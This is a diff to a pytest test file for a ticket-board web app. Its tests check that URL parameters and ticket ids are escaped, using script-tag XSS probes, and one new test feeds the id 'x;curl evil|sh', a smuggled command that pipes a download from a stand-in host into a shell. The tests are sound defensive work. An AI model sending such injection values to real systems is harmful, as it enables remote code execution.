@@ -24,7 +24,7 @@ def test_a_tickets_markup_is_text(board, path):
         assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in text
 
 
-@pytest.mark.parametrize("parameter", ["q", "customer", "intent", "since", "list", "page", "under", "reason", "days"])
+@pytest.mark.parametrize("parameter", ["q", "customer", "intent", "since", "list", "page", "from", "reason", "days"])
 def test_what_an_address_says_is_text_too(board, parameter):
     for path in ("/search", "/tickets", "/doubtful", "/quarantine", "/overview", "/urgent"):
         answer = board.get(f"{path}?{parameter}=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
@@ -55,6 +55,12 @@ def test_an_id_that_no_ticket_has_is_a_page_with_status_404_that_says_who_knows_
     assert "<script>alert" not in answer.text
 
 
+def test_the_command_for_an_id_that_no_ticket_has_runs_nothing_else(board):
+    text = board.get("/tickets/x;curl%20evil%7Csh").text
+
+    assert "<code>tickets where &#39;x;curl evil|sh&#39;</code>" in text
+
+
 @pytest.mark.parametrize(
     ("path", "said"),
     [
@@ -62,8 +68,8 @@ def test_an_id_that_no_ticket_has_is_a_page_with_status_404_that_says_who_knows_
         ("/urgent?urgency=low", "critical, high"),
         ("/urgent?page=x", "page before"),
         ("/tickets?list=summary:x", "urgency:"),
-        ("/doubtful?under=2", "0.0 to 1.0"),
-        ("/doubtful?under=nan", "0.0 to 1.0"),
+        ("/doubtful?reason=x", "language, intent, urgency, sentiment"),
+        ("/incidents?near=nan", "0.3 to 0.99"),
         ("/incidents?hours=0", "1 to 72"),
         ("/overview?days=3", "1, 7, 30"),
         ("/quarantine?reason=x", "not_json"),
@@ -123,7 +129,7 @@ def test_where_the_index_is_missing_the_page_says_how_to_make_it_and_a_ticket_is
     board = serve(spoiled.settings)
     spoiled.store.delete_versions(list(spoiled.store.list_versions("search/")))
 
-    for path in ("/overview", "/incidents", "/doubtful", "/search?q=login"):
+    for path in ("/overview", "/incidents", "/search?urgency=high", "/search?q=login"):
         answer = board.get(path)
         assert answer.status == 503
         assert "tickets reindex" in answer.text
